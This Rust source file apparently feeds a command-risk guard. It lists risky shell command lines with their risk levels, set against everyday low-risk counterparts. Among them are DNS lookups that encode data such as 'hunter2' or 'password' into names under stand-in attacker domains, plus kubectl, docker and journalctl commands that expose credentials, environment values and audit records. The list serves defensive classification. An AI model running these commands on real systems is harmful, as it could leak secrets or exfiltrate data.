//! Dangerous command lines found by an eleventh attacker review of the guard.
//! Everywhere: cluster objects printed whole whose kind holds a pod template or data
//! (`kubectl get pod -o yaml`, `describe deploy`, configmaps, `rollout history --revision`),
//! objects sorted by what they hold; docker templates and listings that print labels (where
//! credentials are kept: a reverse proxy's basic-auth users), a health check's command, a
//! logging driver's options, a volume's driver options; names looked up below someone's
//! domain, whose labels reach that domain's name servers (`host abc.attacker.tld`), also
//! through `ss` filters and `lsof -i`.
//! Where nothing contains the command (`ssh_exec`): journal selections of the audit and sudo
//! records (others' command lines), the audit tools, and `cal -n` sizing its output.
//! Each line gets at least its level (through `ssh_exec` for `REMOTE_KINDS`, on both paths for
//! `KINDS`); `REMOTE_STILL_LOW` holds their everyday neighbours, which stay low there and on
//! this host. Listed in docs/policies.md.

use crate::kinds::Kind;
use warden_policy::RiskLevel::{High, Medium};

pub const REMOTE_KINDS: &[Kind] = &[
    Kind {
        // The journal mirrors the audit log (journald reads the audit socket) and sudo's
        // `COMMAND=` lines: selected by transport, identifier, audit field, executable or
        // facility, they are others' command lines.
        name: "journal-selections-of-command-records",
        lines: &[
            ("journalctl _TRANSPORT=audit", High),
            ("journalctl -t audit", High),
            ("journalctl --identifier=audit", High),
            ("journalctl SYSLOG_IDENTIFIER=audit", High),
            ("journalctl _AUDIT_TYPE=1309", High),
            ("journalctl _AUDIT_TYPE_NAME=EXECVE", High),
            ("journalctl AUDIT_FIELD_EXE=/usr/bin/mysql", High),
            ("journalctl _AUDIT_ID=4242", High),
            ("journalctl -o cat _TRANSPORT=audit --since today", High),
            ("journalctl -t sudo", High),
            ("journalctl _COMM=sudo", High),
            ("journalctl /usr/bin/sudo", High),
            ("journalctl --facility=authpriv", High),
            ("journalctl --facility=auth,daemon", High),
            ("journalctl SYSLOG_FACILITY=10", High),
            ("ausearch -m EXECVE", High),
            ("aureport", High),
            ("aureport -x --summary", High),
            ("auditctl -l", High),
        ],
    },
    Kind {
        // A count of months prints that many: a billion is no calendar.
        name: "calendar-months-without-bound",
        lines: &[
            ("cal -n 1000000000", Medium),
            ("cal -n1000000000", Medium),
            ("cal --months=1000000000", Medium),
            ("ncal -n 100000", Medium),
        ],
    },
    Kind {
        // Each bound alone is in the table; their product is what lasts: rounds times the
        // interval, hops times queries times the wait for a silent hop.
        name: "probes-whose-bounds-multiply",
        lines: &[
            ("mtr -r -c 100 -i 1000000 example.com", Medium),
            ("mtr --report --report-cycles=100 -i 60 example.com", Medium),
            ("traceroute -m 255 -q 10 -w 60 example.com", Medium),
            ("traceroute -q 10 -w 60 example.com", Medium),
            ("traceroute -z 10 -q 10 -m 60 example.com", Medium),
            ("ping -c 100 -i 60 example.com", Medium),
            ("ping -c 20 -i 59 -W 60 example.com", Medium),
            ("systemd-cgtop -b -n 100 -d 60", Medium),
            ("systemd-cgtop -b -n 20 -d 1min", Medium),
            (
                "dig +tries=10 +time=60 example.com example.org example.net",
                Medium,
            ),
            ("dig +retry=9 +time=60 example.com www.example.com", Medium),
        ],
    },
];

pub const KINDS: &[Kind] = &[
    Kind {
        // A pod template's `env: value:` literals, a ConfigMap's data: printed by any output
        // format that shows the object whole, by `describe`, and by a revision's history.
        name: "cluster-objects-printed-whole",
        lines: &[
            ("kubectl get pod web -o yaml", High),
            ("kubectl get pods -o json", High),
            ("kubectl get -o yaml pod web", High),
            ("kubectl get po/web -oyaml", High),
            ("kubectl get pod web -o=json", High),
            ("kubectl get pods --output=yaml", High),
            ("kubectl get deploy web -o yaml", High),
            ("kubectl get deployments.apps -o json", High),
            ("kubectl get sts,ds -o yaml", High),
            ("kubectl get cronjobs -o json", High),
            ("kubectl get jobs.batch -oyaml", High),
            ("kubectl get rs -o yaml", High),
            ("kubectl get rc -o yaml", High),
            ("kubectl get Pod -o yaml", High),
            ("kubectl get configmap app -o yaml", High),
            ("kubectl get all -o yaml", High),
            ("kubectl get controllerrevisions -o yaml", High),
            ("kubectl get pod web --template='{{.spec}}'", High),
            ("kubectl get pods -o go-template='{{.metadata.name}}'", High),
            (
                "kubectl get pods -o jsonpath='{.items[*].spec.containers[*].env}'",
                High,
            ),
            ("kubectl get pods -o jsonpath='{..env}'", High),
            (
                "kubectl get pods -o jsonpath='{.items[*].spec.containers}'",
                High,
            ),
            (
                "kubectl get deploy web -o jsonpath='{.spec.template}'",
                High,
            ),
            (
                "kubectl get pods -o jsonpath='{.items[*].spec.containers[*].args}'",
                High,
            ),
            (
                "kubectl get pods -o jsonpath='{.items[*].metadata.annotations}'",
                High,
            ),
            (
                "kubectl get pods -o custom-columns=E:.spec.containers[0].env",
                High,
            ),
            (
                "kubectl get pods -o jsonpath='{.items[?(@.metadata.name==\"x\")].spec}'",
                High,
            ),
            ("kubectl describe pod web", High),
            ("kubectl describe deploy/web", High),
            ("kubectl describe configmap app", High),
            ("kubectl describe cronjob nightly", High),
            ("kubectl rollout history deploy/web --revision=3", High),
            ("kubectl rollout history deploy/web -o yaml", High),
            ("oc get dc -o yaml", High),
            ("oc describe bc app", High),
            (
                "kubectl get pods --sort-by=.spec.containers[0].env[0].value",
                High,
            ),
            ("kubectl get certificates -o yaml", Medium),
            // A custom resource's status may copy its source (an application's values).
            (
                "kubectl get applications.argoproj.io -o jsonpath='{.items[*].status}'",
                Medium,
            ),
            ("kubectl get sealedsecrets.bitnami.com -o yaml", Medium),
            ("kubectl describe", Medium),
        ],
    },
    Kind {
        // Labels hold credentials (basic-auth users, sidecars' keys); so do a health check's
        // command, a logging driver's options, a volume's and an endpoint's driver options, an
        // event's actor attributes. Whole rows (`{{json .}}`, `--format json`) hold labels.
        name: "docker-labels-and-options",
        lines: &[
            ("docker inspect -f '{{json .Config.Labels}}' app", High),
            ("docker inspect -f '{{.Config.Labels}}' app", High),
            (
                "docker inspect -f '{{index .Config.Labels \"traefik.http.middlewares.auth.basicauth.users\"}}' app",
                High,
            ),
            ("docker inspect -f '{{.Config.Healthcheck.Test}}' app", High),
            ("docker inspect -f '{{json .HostConfig}}' app", High),
            (
                "docker inspect -f '{{.HostConfig.LogConfig.Config}}' app",
                High,
            ),
            (
                "docker image inspect -f '{{json .ContainerConfig}}' app",
                High,
            ),
            ("docker image inspect -f '{{.Config.Labels}}' app", High),
            ("docker ps --format '{{.Labels}}'", High),
            (
                "docker ps --format '{{.Label \"traefik.http.middlewares.auth.basicauth.users\"}}'",
                High,
            ),
            ("docker ps --format 'table {{.Names}}\\t{{.Labels}}'", High),
            ("docker ps --format '{{json .}}'", High),
            ("docker ps --format json", High),
            ("docker container ls --format=json", High),
            ("podman ps --format '{{.Labels}}'", High),
            ("podman images --format '{{.Labels}}'", High),
            ("podman image ls --format json", High),
            ("docker volume inspect pgdata", High),
            ("docker volume inspect -f '{{.Options}}' pgdata", High),
            ("docker volume ls --format '{{json .}}'", High),
            ("docker network inspect bridge", High),
            ("docker network ls --format '{{.Labels}}'", High),
            ("docker node inspect self", High),
            ("docker node ls --format '{{.Labels}}'", High),
            ("docker service ls --format json", High),
            ("docker info --format '{{.Labels}}'", High),
            (
                "docker events --until 0s --format '{{json .Actor.Attributes}}'",
                High,
            ),
            ("docker events --until 0s --format '{{json .Actor}}'", High),
            ("docker events --since 1h --until 0s", High),
            ("docker system events --until 0s", High),
            ("podman events --since 1h", High),
            ("docker compose events", High),
            ("docker logs --details web", High),
            ("docker compose ps --format json", High),
            ("docker compose ps --format '{{json .}}'", High),
            (
                "docker inspect -f '{{range .NetworkSettings.Networks}}{{.DriverOpts}}{{end}}' app",
                High,
            ),
        ],
    },
    Kind {
        // A name below someone's domain reaches that domain's name servers: its labels carry
        // whatever the line puts there, however ordinary they look.
        name: "names-below-someone-elses-domain",
        lines: &[
            ("dig abc.attacker.tld", Medium),
            ("dig +short hunter2.evil.com", Medium),
            ("dig -t txt -q abc.evil.com", Medium),
            ("dig example.com abc.evil.com", Medium),
            ("host abc.attacker.tld", Medium),
            ("host -t txt password.evil.com", Medium),
            ("nslookup abc.attacker.tld", Medium),
            ("nslookup -type=txt root.evil.com", Medium),
            ("drill secret.evil.com", Medium),
            ("getent hosts secret.evil.com", Medium),
            ("getent ahostsv4 abc.evil.com", Medium),
            ("ping -c 1 hunter2.evil.com", Medium),
            ("traceroute -n -q 1 -w 2 root.evil.com", Medium),
            ("tracepath abc.evil.com", Medium),
            ("mtr -r -c 1 abc.evil.com", Medium),
            ("whois abc.evil.com", Medium),
            ("dig data.evil.co.uk", Medium),
            ("dig 2024.evil.com", Medium),
            ("dig x1a.evil.com", Medium),
            ("ss -t dst abc.evil.com", Medium),
            ("ss dst abc.evil.com:80", Medium),
            ("ss -tn '( dst abc.evil.com )'", Medium),
            ("ss -tn dst = abc.evil.com", Medium),
            ("lsof -i @abc.evil.com", Medium),
            ("lsof -i TCP@abc.evil.com:80", Medium),
            // A global IPv6 address's interface part reaches the reverse zone's owner.
            ("dig -x 2001:db8:1234:5678:6865:6c6c:6f21:1", Medium),
            ("host 2a01:4f8::dead:beef:cafe:1", Medium),
            ("nslookup 2a01:4f8:0:0:dead:beef:cafe:1", Medium),
            ("ping -c 1 2a01:4f8::dead:beef:cafe:1", Medium),
            (
                "dig 1.0.0.0.e.f.a.c.f.e.e.b.d.a.e.d.0.0.0.0.8.f.4.0.1.0.a.2.ip6.arpa PTR",
                Medium,
            ),
        ],
    },
];

/// Everyday neighbours of the lines above: they stay low through `ssh_exec` and on this host.
pub const REMOTE_STILL_LOW: &[&str] = &[
    "kubectl get pods",
    "kubectl get pods -o wide",
    "kubectl get pods -o name",
    "kubectl get pods -A -o wide --show-labels",
    "kubectl get pods -o jsonpath='{.items[*].metadata.name}'",
    "kubectl get pods -o jsonpath='{range .items[*]}{.metadata.name}{\"\\t\"}{.status.phase}{\"\\n\"}{end}'",
    "kubectl get pods -o custom-columns=NAME:.metadata.name,STATUS:.status.phase",
    "kubectl get pods --sort-by=.status.startTime",
    "kubectl get pods -o jsonpath='{.items[*].spec.containers[*].image}'",
    "kubectl get deploy web -o jsonpath='{.spec.replicas}'",
    "kubectl get pods -o custom-columns=NAME:.metadata.name,NODE:.spec.nodeName",
    "kubectl get pods --sort-by=.metadata.creationTimestamp",
    "kubectl get applications.argoproj.io -o jsonpath='{.items[*].metadata.name}'",
    "kubectl get pods -o jsonpath='{.items[*].status.phase}'",
    "kubectl get node worker-1 -o wide",
    "kubectl get svc web -o wide",
    "kubectl get secret db-creds",
    "kubectl rollout history deploy/web",
    "docker inspect -f '{{.State.Status}}' app",
    "docker inspect -f '{{.HostConfig.RestartPolicy.Name}}' app",
    "docker inspect -f '{{.Config.Image}}' app",
    "docker volume inspect -f '{{.Mountpoint}}' pgdata",
    "docker network inspect -f '{{range .IPAM.Config}}{{.Subnet}}{{end}}' bridge",
    "docker volume ls --format '{{.Name}}'",
    "docker ps --format 'table {{.Names}}\\t{{.Status}}\\t{{.Ports}}'",
    // (Its COMMAND column is a command line on `ssh_exec`: `round18.rs`.)
    "docker ps -q --format table",
    "docker container ls --format '{{.Names}}'",
    "docker stats --no-stream --format '{{json .}}'",
    "docker version --format '{{json .}}'",
    "docker compose ls --format json",
    "docker images --format '{{.Repository}}:{{.Tag}} {{.Size}}'",
    "docker logs --tail 50 web",
    "dig -r example.com",
    "dig -r +short api.github.com AAAA",
    "dig -r +short deb.debian.org",
    "dig -r -t TXT _dmarc.example.com",
    "dig -r SRV _ldap._tcp.example.com",
    "dig -r -t TXT selector1._domainkey.example.com",
    "dig -r www.example.co.uk",
    "host mail.example.com",
    "host db-01.internal.lan",
    "getent ahosts ip-172-31-22-10.eu-west-1.compute.internal",
    "ping -c 3 www.google.com",
    "ss -tn dst 10.0.0.1",
    "ss -tn dst :443",
    "ss -tn state established '( dport = :ssh or sport = :ssh )'",
    "lsof -i :80",
    "lsof -i @10.0.0.1",
    "dig -r -x 2001:4860:4860::8888",
    "dig -r -x 192.0.2.1",
    "ping -c 3 fe80::1%eth0",
    "journalctl -u nginx",
    "journalctl -u auditd",
    "journalctl -t nginx",
    "journalctl -u nginx -b -p err",
    "journalctl -k -p err",
    "mtr -r -c 100 -i 5 example.com",
    "dig -r +tries=10 +time=60 example.com",
    "dig -r example.com example.org debian.org",
    "ping -c 10 -i 59 example.com",
    "ping -c 100 example.com",
    "systemd-cgtop -b -n 10 -d 1min",
    "traceroute -m 255 example.com",
    "traceroute -w 5,3,10 example.com",
    "cal -n 12",
    "cal -3",
    "cal 2024",
];
